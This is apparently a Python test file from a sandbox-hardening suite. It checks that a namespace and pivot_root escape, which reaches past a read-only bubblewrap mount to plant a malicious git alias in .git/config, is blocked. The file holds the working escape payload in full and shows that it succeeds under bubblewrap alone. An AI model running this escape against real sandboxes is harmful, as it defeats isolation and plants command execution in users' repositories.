# SPDX-License-Identifier: Apache-2.0
"""Attack 14: a nested namespace in which all mounts are detached, and a descriptor from before, which then leads to
what lay beneath a read-only mount. With bubblewrap alone this works."""

import contextlib
import os
import subprocess
import sys

from attacks import NUMBERS, PRELUDE, Attack, fill, make_tests
from guards import make_repository

CODE = """
directory = os.open(".git", os.O_RDONLY | os.O_DIRECTORY)
uid, gid = os.getuid(), os.getgid()
def enter():
    call(UNSHARE, 0x10020000)
    open("/proc/self/setgroups", "w").write("deny")
    open("/proc/self/uid_map", "w").write(f"{uid} {uid} 1")
    open("/proc/self/gid_map", "w").write(f"{gid} {gid} 1")
def pivot():
    call(MOUNT, 0, b"/", 0, 16384 | 1 << 18, 0)
    call(MOUNT, b"x", b"/tmp", b"tmpfs", 0, 0)
    os.mkdir("/tmp/old")
    call(PIVOT, b"/tmp", b"/tmp/old")
    os.chdir("/")
    call(UMOUNT, b"/old", 2)
def write():
    os.write(os.open("config", os.O_WRONLY | os.O_APPEND, dir_fd=directory), b"[alias]\\n\\tst = !evil\\n")
attack("enter", enter)
attack("detach", pivot)
attack("write", write)
"""


@contextlib.contextmanager
def repository(person):
    make_repository(person)
    yield {"UNSHARE": NUMBERS["unshare"], "MOUNT": NUMBERS["mount"], "PIVOT": NUMBERS["pivot_root"],
           "UMOUNT": NUMBERS["umount2"]}


def config(person):
    return {"the settings are": "through" if "evil" in (person.work / ".git/config").read_text() else "unchanged"}


ATTACKS = [Attack("pivot", CODE, {"enter": "EPERM", "detach": "EPERM", "write": "EROFS", "the settings are": "unchanged"},
                  setup=repository, held=config)]
somebody, _, test_inside = make_tests(ATTACKS)


def test_it_works_in_bubblewrap_alone(somebody):
    with repository(somebody) as words:
        program = somebody.work / "attack.py"
        program.write_text(fill(CODE, words))
        work = str(somebody.work)
        done = subprocess.run(
            ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp", "--bind", work, work,
             "--ro-bind", f"{work}/.git/config", f"{work}/.git/config", "--chdir", work, sys.executable, str(program)],
            capture_output=True, env={**os.environ})
        assert config(somebody) == {"the settings are": "through"}, done
    assert PRELUDE
